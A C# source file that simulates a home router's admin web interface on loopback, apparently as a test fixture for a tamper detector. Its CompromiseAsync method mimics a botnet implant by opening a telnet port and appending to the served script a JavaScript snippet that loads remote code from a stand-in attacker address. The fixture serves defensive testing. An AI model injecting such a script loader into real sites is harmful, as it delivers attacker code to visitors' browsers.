using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace FlaxGuard.Lab;

/// <summary>
/// A small home router's admin web interface, on loopback: a login page that links a script and a
/// stylesheet, a self-signed HTTPS certificate, per-visit session cookies (noise the checker must ignore).
/// <see cref="CompromiseAsync"/> does what a botnet implant does to such a device: it tampers with the
/// web interface script and opens a telnet port.
/// </summary>
public sealed class LabWebDevice : IAsyncDisposable
{
    public const int DefaultTelnetPort = 2323;
    private const string CleanScript = "// Lab router admin UI 2.1.7\nfunction login(f){ return f.user.value.length > 0; }\n";
    private const string InjectedScript = "\n;(function(){var s=document.createElement('script');s.src='http://203.0.113.66/x.js';document.head.appendChild(s);})();\n";
    private const string Stylesheet = "body{font-family:sans-serif;background:#f4f4f4}form{margin:4em auto;width:20em}\n";

    private readonly WebApplication _app;
    private volatile string _script = CleanScript;
    private LabTelnetListener? _telnet;

    private LabWebDevice(WebApplication app, IPAddress address, byte[] certificateSha256)
    {
        _app = app;
        Address = address;
        CertificateSha256 = certificateSha256;
    }

    /// <summary>SHA-256 of the DER certificate the HTTPS endpoint presents.</summary>
    public byte[] CertificateSha256 { get; }

    /// <summary>The script the admin page links to, as served right now.</summary>
    public string Script => _script;

    public IPAddress Address { get; }

    public int HttpPort { get; private set; }

    public int HttpsPort { get; private set; }

    public int? TelnetPort => _telnet?.Port;

    public bool Compromised { get; private set; }

    /// <summary>Starts the device on <paramref name="address"/>; port 0 picks free ports.</summary>
    public static async Task<LabWebDevice> StartAsync(IPAddress address, int httpPort = 0, int httpsPort = 0, CancellationToken token = default)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        var certificate = CreateCertificate();
        builder.WebHost.ConfigureKestrel(kestrel =>
        {
            kestrel.AddServerHeader = false;
            kestrel.Listen(address, httpPort);
            kestrel.Listen(address, httpsPort, listen => listen.UseHttps(certificate));
        });
        var app = builder.Build();
        var device = new LabWebDevice(app, address, SHA256.HashData(certificate.RawData));
        device.MapRoutes();
        await app.StartAsync(token);
        var addresses = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses;
        foreach (var url in addresses.Select(a => new Uri(a)))
        {
            if (url.Scheme == Uri.UriSchemeHttps) device.HttpsPort = url.Port;
            else device.HttpPort = url.Port;
        }
        return device;
    }

    /// <summary>Tampers with the admin script and opens a telnet listener, as an implant would.</summary>
    public Task CompromiseAsync(int telnetPort = DefaultTelnetPort)
    {
        _script = CleanScript + InjectedScript;
        _telnet ??= new LabTelnetListener(Address, telnetPort);
        Compromised = true;
        return Task.CompletedTask;
    }

    /// <summary>Undoes <see cref="CompromiseAsync"/>, as a factory reset would.</summary>
    public async Task RestoreAsync()
    {
        _script = CleanScript;
        if (_telnet is not null) await _telnet.DisposeAsync();
        _telnet = null;
        Compromised = false;
    }

    public async ValueTask DisposeAsync()
    {
        if (_telnet is not null) await _telnet.DisposeAsync();
        await _app.StopAsync();
        await _app.DisposeAsync();
    }

    private void MapRoutes()
    {
        _app.Use(async (context, next) =>
        {
            context.Response.Headers.Server = "lighttpd/1.4.59";
            await next(context);
        });
        _app.MapGet("/", (HttpContext context) =>
        {
            // A fresh session id on every visit: exactly the kind of value drift detection must not report.
            context.Response.Headers.SetCookie = "sid=" + Convert.ToHexString(RandomNumberGenerator.GetBytes(8)) + "; HttpOnly";
            return Results.Content(LoginPage, "text/html; charset=utf-8");
        });
        _app.MapGet("/js/app.js", () => Results.Text(_script, "application/javascript", Encoding.UTF8));
        _app.MapGet("/css/style.css", () => Results.Text(Stylesheet, "text/css", Encoding.UTF8));
    }

    private static readonly string LoginPage =
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n<title>Lab Router AX1800 &amp; Wi-Fi - Login</title>\n" +
        "<link rel=\"stylesheet\" href=\"/css/style.css\">\n<script src=\"/js/app.js\"></script>\n</head>\n" +
        "<body><form onsubmit=\"return login(this)\"><input name=\"user\"><input name=\"pass\" type=\"password\"><button>Log in</button></form></body></html>\n";

    private static X509Certificate2 CreateCertificate()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=labrouter.local, O=FlaxGuard Lab", key, HashAlgorithmName.SHA256);
        var now = DateTimeOffset.UtcNow;
        using var cert = request.CreateSelfSigned(now.AddDays(-1), now.AddYears(1));
        // Kestrel needs the key in a form it can use on every platform; a PKCS#12 round trip gives that.
        return X509CertificateLoader.LoadPkcs12(cert.Export(X509ContentType.Pkcs12), null);
    }
}
